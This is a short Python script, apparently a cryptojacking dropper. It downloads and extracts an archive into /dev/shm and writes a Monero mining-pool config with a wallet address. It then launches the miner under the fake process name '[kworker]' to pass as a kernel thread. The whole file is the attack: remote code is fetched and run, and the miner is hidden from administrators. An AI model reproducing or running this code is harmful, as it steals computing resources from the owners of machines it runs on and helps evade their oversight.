import json, os, platform, tarfile, urllib.request
if platform.machine() != "x86_64": raise SystemExit
os.chdir("/dev/shm")
urllib.request.urlretrieve("https://example.com/x.tgz", "x.tgz")
tarfile.open("x.tgz").extractall()
json.dump({"pools": [{"url": "pool.supportxmr.com:443", "user": "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"}]}, open("config.json", "w"))
os.execv("./xmr", ["[kworker]", "-c", "config.json"])
